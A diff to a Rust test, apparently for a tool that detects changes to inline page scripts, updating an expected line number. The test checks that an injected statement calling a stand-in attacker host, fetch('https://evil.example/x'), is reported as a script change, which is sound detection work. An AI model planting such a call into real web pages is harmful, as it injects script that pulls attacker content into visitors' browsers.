@@ -329,8 +329,8 @@ fn code_appended_to_an_inline_script_is_a_change_of_that_script() {
             .unwrap_or_default()
             .contains("+fetch('https://evil.example/x'")
     );
-    // The block starts on page line 11; the appended statement is its 4th line.
-    assert_eq!(f[0].location.map(|l| l.line), Some(14));
+    // The block starts on page line 11; the appended statement is its 5th line (after a blank one).
+    assert_eq!(f[0].location.map(|l| l.line), Some(15));
     // Lines that differ only in their per-request tokens are context, not changes.
     let diff = f[0].diff.as_deref().unwrap_or_default();
     assert!(
